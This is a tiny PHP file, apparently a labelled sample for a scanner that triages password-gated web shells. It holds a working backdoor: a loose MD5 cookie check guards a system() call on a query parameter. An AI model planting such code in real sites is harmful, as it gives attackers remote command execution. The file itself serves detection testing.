<?php
// triage-expect: triage_php_password_gate
if (md5($_COOKIE['auth']) == '00000000000000000000000000000000') {
    system($_GET['x']);
}
